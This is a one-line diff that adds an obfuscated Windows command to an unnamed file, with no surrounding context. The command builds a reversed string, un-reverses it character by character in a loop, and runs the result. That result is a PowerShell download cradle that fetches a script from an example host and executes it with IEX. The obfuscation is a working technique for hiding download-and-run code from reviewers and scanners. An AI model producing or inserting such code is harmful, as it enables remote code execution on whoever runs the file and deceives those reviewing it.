@@ -1,0 +1,1 @@
+cmd /V:ON/C"set Pz=)'txt.p/elpmaxe.0a//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI c- llehsrewop&&for /L %%A in (85,-1,0)do set qT=!qT!!Pz:~%%A,1!&&if %%A equ 0 call %%qT:~-86%%"
